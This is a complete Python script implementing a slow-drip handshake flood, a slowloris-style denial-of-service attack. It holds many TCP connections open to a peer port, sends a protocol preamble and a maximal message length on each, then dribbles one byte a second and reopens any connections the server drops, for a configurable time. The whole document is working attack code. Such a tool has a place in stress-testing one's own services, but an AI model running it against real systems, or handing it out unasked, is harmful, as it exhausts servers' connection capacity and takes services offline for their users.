# Slow-drip handshake flood on a peer port: keeps up to N connections open,
# each sending an agent's preamble and the length of a long first handshake
# message, then one byte of it a second, opening at most NEW a second to
# replace those the agent cut, for LIMIT seconds. Prints "open K opened M"
# once a second.
import socket, sys, time
addr, port, n, new, limit = sys.argv[1], int(sys.argv[2]), int(sys.argv[3]), int(sys.argv[4]), float(sys.argv[5])
conns, opened = [], 0
t0 = time.time()
while time.time() - t0 < limit:
    for _ in range(min(new, n - len(conns))):
        try:
            s = socket.create_connection((addr, port), timeout=1)
        except OSError:
            break
        try:
            s.sendall(b"MGL1N\xff\xff")
        except OSError:
            s.close()
            continue
        s.setblocking(False)
        conns.append(s)
        opened += 1
    alive = []
    for s in conns:
        try:
            s.send(b"\0")
            if s.recv(1) == b"":
                s.close()
                continue
        except BlockingIOError:
            pass
        except OSError:
            s.close()
            continue
        alive.append(s)
    conns = alive
    print(f"open {len(conns)} opened {opened}", flush=True)
    time.sleep(1)
